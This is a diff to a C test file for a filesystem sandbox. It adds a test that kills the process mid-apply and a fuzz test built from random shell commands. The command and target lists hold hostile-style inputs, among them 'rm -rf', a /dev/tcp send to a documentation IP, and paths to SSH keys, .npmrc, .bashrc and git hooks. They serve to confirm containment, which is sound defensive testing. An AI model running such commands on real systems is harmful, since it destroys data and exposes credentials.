@@ -15,10 +15,12 @@
 #include <stdlib.h>
 #include <string.h>
 #include <sys/stat.h>
+#include <sys/wait.h>
 #include <unistd.h>
 
 #include "base/buf.h"
 #include "base/clock.h"
+#include "base/disk.h"
 #include "base/err.h"
 #include "base/file.h"
 #include "base/mem.h"
@@ -26,7 +28,7 @@
 #include "conf/conf.h"
 #include "conf/option.h"
 #include "guard/effects.h"
-#include "guard/sandbox.h"
+#include "guard/sandbox_state.h"
 #include "guard/trial.h"
 #include "guard/workspace.h"
 #include "proc/confine.h"
@@ -451,6 +453,241 @@ static void test_grant(void **state)
     make_world();
 }
 
+/* ---- killed while it applies ---- */
+
+/* Changes of every kind at once. */
+static const char *const killed_command =
+    "echo new > new; sed -i s/one/1/ a; rm b; mv dir/s dir/s2; mkdir n; echo n > n/n; chmod 700 "
+    "dir/sub; rm bin; mkdir bin; echo x > bin/x; touch link2; ln -sf b link; rm -r empty";
+
+/* In a process of its own, which is killed before its n-th step. False: it came to its end. */
+static bool apply_and_die(struct trial *t, int n)
+{
+    pid_t pid = fork();
+    char spec[32];
+    int status;
+
+    assert_true(pid >= 0);
+    if (pid == 0) {
+        struct err err = {0};
+
+        snprintf(spec, sizeof(spec), "%s:%d", n % 2 ? "kill" : "after", n / 2 + 1);
+        disk_test_mode(spec);
+        _exit(trial_apply(t, &err) == 0 ? 0 : 1);
+    }
+    assert_int_equal(waitpid(pid, &status, 0), pid);
+    if (WIFSIGNALED(status))
+        return true;
+    assert_int_equal(WEXITSTATUS(status), 0);
+    return false;
+}
+
+/* name: below w. "" when there is nothing. */
+static void look_of(const char *name, struct buf *ret)
+{
+    CLEANUP(buf_release) struct buf path = BUF_INIT(BUF_NO_LIMIT);
+    CLEANUP(buf_release) struct buf text = BUF_INIT(BUF_NO_LIMIT);
+    char target[256];
+    struct stat st;
+    ssize_t n;
+
+    buf_addf(&path, "%s/w/%s", root, name);
+    if (lstat(buf_cstr(&path), &st) < 0)
+        return;
+    buf_addf(ret, "%o ", (unsigned)st.st_mode);
+    n = readlink(buf_cstr(&path), target, sizeof(target));
+    if (n > 0)
+        buf_add(ret, str_make(target, (size_t)n));
+    else if (S_ISREG(st.st_mode) && file_slurp(buf_cstr(&path), 1000, &text, NULL) == 0)
+        buf_add(ret, buf_str(&text));
+}
+
+static const char *const killed_names[] = {
+    "new", "a",     "b",     "dir",  "dir/s", "dir/s2",    "n",   "n/n",       "dir/sub",
+    "bin", "bin/x", "link2", "link", "empty", "dir/sub/t", "out", "new\nline", ".git/config",
+};
+
+static void look_at_all(struct buf *ret)
+{
+    for (size_t i = 0; i < ARRAY_LEN(killed_names); i++)
+        look_of(killed_names[i], &ret[i]);
+}
+
+static void release_all(struct buf *looks)
+{
+    for (size_t i = 0; i < ARRAY_LEN(killed_names); i++)
+        buf_release(&looks[i]);
+}
+
+/* Every file is the old one or the new one, and what is told afterwards is true. */
+static void test_killed(void **state)
+{
+    struct place *p = *state;
+    struct buf old[ARRAY_LEN(killed_names)] = {0};
+    struct buf new[ARRAY_LEN(killed_names)] = {0};
+    CLEANUP(buf_release) struct buf command = BUF_INIT(BUF_NO_LIMIT);
+    bool was_killed = true;
+    int steps = 0;
+
+    if (!can_try(p))
+        return;
+    for (size_t i = 0; i < ARRAY_LEN(killed_names); i++) {
+        buf_init(&old[i], BUF_NO_LIMIT);
+        buf_init(&new[i], BUF_NO_LIMIT);
+    }
+    make_world();
+    look_at_all(old);
+    buf_addf(&command, "cd w; %s", killed_command);
+    shell(buf_cstr(&command));
+    look_at_all(new);
+    for (int n = 1; was_killed && n < 200; n++) {
+        CLEANUP(trial_freep) struct trial *t = NULL;
+        CLEANUP(buf_release) struct buf journal = BUF_INIT(BUF_NO_LIMIT);
+        CLEANUP(strv_release) struct strv told = STRV_INIT;
+        struct buf now[ARRAY_LEN(killed_names)] = {0};
+        struct err err = {0};
+
+        make_world();
+        assert_int_equal(trial_new(p->sandbox, &t, &err), 0);
+        assert_int_equal(run(p, t, killed_command, NULL), TRIAL_CHANGED);
+        was_killed = apply_and_die(t, n) || n % 2 == 0; /* not every step has an "after" */
+        for (size_t i = 0; i < ARRAY_LEN(killed_names); i++)
+            buf_init(&now[i], BUF_NO_LIMIT);
+        look_at_all(now);
+        for (size_t i = 0; i < ARRAY_LEN(killed_names); i++) {
+            /* A folder that is new gets its mode when its files are there. */
+            bool is_made =
+                str_is(str_of(killed_names[i]), "n") || str_is(str_of(killed_names[i]), "bin");
+
+            if (!str_eq(buf_str(&now[i]), buf_str(&old[i])) &&
+                !str_eq(buf_str(&now[i]), buf_str(&new[i])) && !is_made)
+                fail_msg("step %d: %s is neither: %s", n, killed_names[i], buf_cstr(&now[i]));
+        }
+        buf_addf(&journal, "%s/%u/journal", p->sandbox->trials.dir, p->sandbox->trials.count);
+        effects_settle(buf_cstr(&journal), &told);
+        if (was_killed && told.len) {
+            assert_int_equal(told.len, 2);
+            for (size_t i = 0; i < ARRAY_LEN(killed_names); i++) {
+                CLEANUP(buf_release) struct buf path = BUF_INIT(BUF_NO_LIMIT);
+                bool changes = !str_eq(buf_str(&old[i]), buf_str(&new[i]));
+                bool is_new = str_eq(buf_str(&now[i]), buf_str(&new[i]));
+
+                buf_addf(&path, "%s/w/%s", root, killed_names[i]);
+                if (changes && is_new && str_has(str_of(told.ptr[1]), buf_str(&path)) &&
+                    !str_has(str_of(told.ptr[0]), buf_str(&path)))
+                    fail_msg("step %d: %s: %s", n, killed_names[i], told.ptr[1]);
+            }
+        }
+        shell("test -z \"$(find w -name '.*tenax-trial*')\"");
+        release_all(now);
+        steps = n;
+    }
+    assert_true(steps > 20 && !was_killed);
+    release_all(old);
+    release_all(new);
+    make_world();
+}
+
+/* ---- a thousand commands ---- */
+
+static const char *const verbs[] = {
+    "cat %s",
+    "rm -rf %s",
+    "echo x > %s",
+    "echo x >> %s",
+    "mv %s moved",
+    "cp -r %s copied",
+    "chmod 777 %s",
+    "touch %s",
+    "ln -sf a %s",
+    "mkdir -p %s",
+    "sed -i s/o/0/ %s",
+    "truncate -s 9 %s",
+    "dd if=/dev/zero of=%s bs=1 count=3 status=none",
+    "python3 -c \"open('%s','w').write('x')\"",
+    "bash -c 'exec 3<>%s; echo y >&3'",
+    "find %s -delete",
+    "tee %s < a",
+    "install -m 755 a %s",
+    "tar cf %s a",
+    "git init -q %s",
+    "mkfifo %s",
+    "(sleep 0.01; echo late > %s) &",
+    "ls -la %s",
+    "exec 3<>/dev/tcp/192.0.2.1/80; echo %s >&3",
+    "perl -e 'rename \"%s\", \"r\"'",
+    "rsync a %s",
+    "xargs -I{} cp {} %s <<< a",
+    "awk '{print > \"%s\"}' a",
+    "unlink %s",
+    "rmdir %s",
+};
+
+static const char *const targets[] = {
+    "a",
+    "b",
+    "bin",
+    "dir",
+    "dir/s",
+    "dir/sub/t",
+    "link",
+    "out",
+    "empty",
+    "new",
+    ".git/config",
+    ".git/hooks/pre-commit",
+    ".npmrc",
+    "../o/secret",
+    "../o/new",
+    "../h/.ssh/id",
+    "$HOME/.bashrc",
+    "/etc/hostname",
+    "/tmp/tenax-trial-x",
+    "../w/a",
+    "deep/er/x",
+    "'with space'",
+    "*",
+    ".",
+};
+
+/* Nothing changes unasked, whatever it is: files, modes, times, here and around it. */
+static void test_thousand(void **state)
+{
+    struct place *p = *state;
+    CLEANUP(buf_release) struct buf before = BUF_INIT(BUF_NO_LIMIT);
+    size_t count = getenv("TENAX_HEAVY") ? 1000 : 120;
+    unsigned seed = 7;
+
+    if (!can_try(p))
+        return;
+    make_world();
+    state_of(".", &before);
+    for (size_t i = 0; i < count; i++) {
+        CLEANUP(buf_release) struct buf command = BUF_INIT(BUF_NO_LIMIT);
+        CLEANUP(trial_freep) struct trial *t = NULL;
+        struct err err = {0};
+
+        for (int part = 0; part < 1 + (int)(i % 3); part++) {
+            const char *verb = verbs[rand_r(&seed) % ARRAY_LEN(verbs)];
+            const char *at = strstr(verb, "%s");
+
+            buf_addf(&command, "%s%.*s%s%s", part ? "; " : "", (int)(at - verb), verb,
+                     targets[rand_r(&seed) % ARRAY_LEN(targets)], at + 2);
+        }
+        assert_int_equal(trial_new(p->sandbox, &t, &err), 0);
+        (void)run(p, t, buf_cstr(&command), NULL);
+        trial_free(TAKE_PTR(t));
+        if (i % 10 == 9 || i + 1 == count) {
+            CLEANUP(buf_release) struct buf after = BUF_INIT(BUF_NO_LIMIT);
+
+            state_of(".", &after);
+            if (!str_eq(buf_str(&before), buf_str(&after)))
+                fail_msg("one of the last ten has changed something: %s\n%s\n%s",
+                         buf_cstr(&command), buf_cstr(&before), buf_cstr(&after));
+        }
+    }
+}
+
 static void test_too_large(void **state)
 {
     struct place *p = *state;
@@ -470,7 +707,8 @@ UNIT_TEST(trial)
     const struct CMUnitTest tests[] = {
         cmocka_unit_test(test_outcomes),  cmocka_unit_test(test_apply),
         cmocka_unit_test(test_stale),     cmocka_unit_test(test_grant),
-        cmocka_unit_test(test_too_large),
+        cmocka_unit_test(test_too_large), cmocka_unit_test(test_killed),
+        cmocka_unit_test(test_thousand),
     };
 
     return cmocka_run_group_tests(tests, setup, teardown);
